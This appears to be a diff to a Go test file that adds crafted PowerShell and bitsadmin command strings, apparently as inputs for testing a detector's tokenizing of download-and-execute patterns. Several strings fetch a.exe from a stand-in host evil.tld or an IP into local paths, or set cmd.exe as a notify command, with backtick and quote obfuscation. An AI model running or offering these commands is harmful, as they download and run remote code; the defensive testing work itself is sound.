@@ -25,6 +25,10 @@ var craftedUnits = []string{
 	"bitsadmin /setnotifycmdline j cmd.exe ",
 	"& {Start-BitsTransfer -Destination '${a $( \"`} ",
 	`\\host\s\a.exe http://1.2.3.4/a.exe %temp%\a.exe `,
+	// PowerShell's reading carried over many tokens: bitsadmin in a
+	// script block, escaped spaces, open expressions and curly quotes.
+	"& {bitsadmin /transfer j https://evil.tld/a.exe C:\\a` b /setnotifycmdline j (x} ",
+	"Start-BitsTransfer` https://evil.tld/a.exe` C:\\a` -Source (\u201c ",
 	// Near misses of the anchors, their letters apart by the bytes
 	// tokenize removes, and key letters among runs of those bytes: each
 	// key letter sends the anchor scan over them.
